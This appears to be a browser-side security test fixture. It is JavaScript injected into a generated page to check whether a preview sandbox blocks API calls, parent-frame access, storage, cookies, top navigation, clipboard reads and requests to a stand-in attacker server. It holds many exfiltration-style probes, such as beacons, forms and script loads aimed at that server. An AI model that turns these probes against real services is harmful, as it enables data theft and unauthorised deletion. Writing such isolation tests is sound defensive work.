// What a generated page may try against the service that shows it. attacks_access.py puts this into a converted page,
// with CANARY (the port of the attacker's server) and CONVERSION filled in, shows its preview in a frame and listens.
// Each attempt reports to the parent whether it got something; what throws or is refused got nothing.

const told = {};
const tell = (name, got) => {
  told[name] = String(got);
  parent.postMessage({trial: told}, '*');
};
const attempt = (name, act) => {
  try {
    const result = act();
    if (result && result.then) result.then(got => tell(name, got), () => tell(name, false));
    else tell(name, result);
  } catch {
    tell(name, false);
  }
};
const far = 'http://127.0.0.1:CANARY/';
const add = (tag, set) => document.body.appendChild(Object.assign(document.createElement(tag), set));
const load = (tag, set) => new Promise((got, failed) => add(tag, {...set, onload: () => got(true), onerror: failed}));
const quietly = act => { act(); return false; };  // nothing comes back; whoever is called tells

tell('ran', true);

attempt('fetch the list of conversions', () => fetch('/v1/conversions').then(answer => answer.status));
attempt('fetch without CORS', () => fetch('/v1/conversions', {mode: 'no-cors'}).then(answer => answer.type));
attempt('delete a conversion by fetch', () =>
  fetch('/v1/conversions/CONVERSION', {method: 'DELETE'}).then(answer => answer.status));
attempt('XMLHttpRequest', () => {
  const request = new XMLHttpRequest();
  request.open('GET', '/v1/conversions', false);
  request.send();
  return request.status;
});
attempt('EventSource', () => new Promise((got, failed) => {
  const events = new EventSource('/v1/conversions/CONVERSION/events');
  events.onopen = () => got(true);
  events.onerror = () => { events.close(); failed(); };
}));
attempt('WebSocket', () => new Promise((got, failed) => {
  const web = new WebSocket('ws://127.0.0.1:CANARY/socket');
  web.onopen = () => got(true);
  web.onerror = failed;
}));
attempt('sendBeacon', () => quietly(() => navigator.sendBeacon(far + 'beacon', 'x')));

attempt('parent.document', () => parent.document.title !== undefined);
attempt('top.document', () => top.document.body !== null);
attempt('parent.localStorage', () => parent.localStorage.length >= 0);
attempt('localStorage', () => localStorage.length >= 0);
attempt('sessionStorage', () => sessionStorage.length >= 0);
attempt('document.cookie', () => { document.cookie = 'evil=1'; return document.cookie.includes('evil'); });
attempt('indexedDB', () => new Promise((got, failed) => {
  const request = indexedDB.open('evil');
  request.onsuccess = () => got(true);
  request.onerror = failed;
}));
attempt('caches', () => caches.keys().then(() => true));
attempt('an origin of its own', () => self.origin !== 'null');

attempt('a service worker', () => navigator.serviceWorker.register('/assets/page.js').then(() => true));
attempt('a worker', () => new Promise((got, failed) => {
  const worker = new Worker('data:text/javascript,postMessage(1)');
  worker.onmessage = () => got(true);
  worker.onerror = failed;
}));
attempt('window.open', () => window.open(far + 'window') !== null);
attempt('top.location', () => quietly(() => { top.location = far + 'top'; }));
attempt('alert', () => quietly(() => alert('evil')));
attempt('full screen', () => document.documentElement.requestFullscreen().then(() => true));
attempt('the clipboard', () => navigator.clipboard.readText().then(() => true));

attempt('an image elsewhere', () => load('img', {src: far + 'image'}));
attempt('import()', () => import(far + 'module.js').then(() => true));
attempt('a script elsewhere', () => load('script', {src: far + 'script.js'}));
attempt('a script of the service', () => load('script', {src: '/assets/page.js'}));
attempt('a stylesheet elsewhere', () => load('link', {rel: 'stylesheet', href: far + 'style.css'}));
attempt('prefetch', () => quietly(() => add('link', {rel: 'prefetch', href: far + 'prefetch'})));
attempt('a background elsewhere', () =>
  quietly(() => { document.body.style.backgroundImage = `url(${far}background)`; }));
attempt('a font elsewhere', () => new FontFace('Evil', `url(${far}font)`).load().then(() => true));
attempt('a picture of the API', () => load('img', {src: '/v1/conversions/CONVERSION/designs/0'}));
attempt('an object of the API', () => load('object', {data: '/v1/conversions'}));
attempt('a frame of the API', () => quietly(() => add('iframe', {src: '/v1/conversions'})));
attempt('a form', () => quietly(() => add('form', {action: '/v1/convert', method: 'post'}).submit()));
attempt('a form elsewhere', () => quietly(() => add('form', {action: far + 'form', method: 'post'}).submit()));
attempt('a download', () => quietly(() => add('a', {href: 'data:text/plain,x', download: 'x'}).click()));
attempt('a ping', () => quietly(() => add('a', {href: '#', ping: far + 'ping'}).click()));

setTimeout(() => tell('end', true), 1500);
